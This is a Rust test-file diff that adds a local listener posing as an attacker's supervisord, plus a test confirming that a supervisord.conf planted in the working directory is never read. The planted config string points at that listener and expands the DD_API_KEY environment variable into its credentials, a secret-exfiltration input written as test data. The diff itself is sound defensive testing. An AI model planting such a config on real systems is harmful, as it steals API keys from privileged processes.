@@ -443,3 +443,69 @@ fn file_modes_hold_whatever_the_umask() {
         }
     }
 }
+
+/// A listener on 127.0.0.1 playing the attacker's supervisord: it notes each connection at
+/// once, keeps its bytes (for a second, or until the peer closes) and then hangs up.
+fn attacker_listener() -> (u16, Arc<Mutex<Vec<String>>>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let seen = Arc::new(Mutex::new(Vec::new()));
+    let record = Arc::clone(&seen);
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let at = {
+                let mut seen = record.lock().unwrap();
+                seen.push("a connection".to_string());
+                seen.len() - 1
+            };
+            let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
+            let mut bytes = Vec::new();
+            let mut buf = [0u8; 4096];
+            while let Ok(n) = stream.read(&mut buf) {
+                if n == 0 {
+                    break;
+                }
+                bytes.extend_from_slice(&buf[..n]);
+            }
+            record.lock().unwrap()[at] = String::from_utf8_lossy(&bytes).into_owned();
+        }
+    });
+    (port, seen)
+}
+
+/// Root runs `switch` in a directory where somebody else planted a `supervisord.conf` that
+/// points at their listener and asks for the handler's secrets as credentials. With every
+/// restart path, the listener is never contacted: the working directory's config is not read
+/// by the handler nor by the supervisorctl it runs, and the handler's secrets never expand.
+#[test]
+fn a_supervisord_conf_planted_in_the_working_directory_is_never_used() {
+    if !crate::support::have("supervisord", "supervisor") {
+        return;
+    }
+    let real = crate::support::stack::which(&["supervisorctl"]).unwrap();
+    let (port, seen) = attacker_listener();
+    for via in ["auto", "xmlrpc", "supervisorctl"] {
+        let dir = TestDir::with_env("NAM");
+        let planted = format!(
+            "[supervisorctl]\nserverurl=http://127.0.0.1:{port}\nusername=%(ENV_DD_API_KEY)s\n\
+             password=%(ENV_DD_API_KEY)s\n"
+        );
+        dir.write_file("supervisord.conf", &planted);
+        fs::create_dir_all(dir.path().join("etc")).unwrap();
+        dir.write_file("etc/supervisord.conf", &planted);
+        let out = Cmd::new(&dir)
+            .sub(&["switch", "EU"])
+            .flag("--supervisorctl", real.to_str().unwrap())
+            .flag("--restart-via", via)
+            .env("DD_API_KEY", DD_KEY)
+            .output();
+        let what = format!("switch with restart.via = {via}");
+        assert_no_secret(&what, &out.stdout);
+        assert_no_secret(&what, &out.stderr);
+        assert_eq!(
+            *seen.lock().unwrap(),
+            Vec::<String>::new(),
+            "{what} reached the planted server: {out:#?}"
+        );
+    }
+}
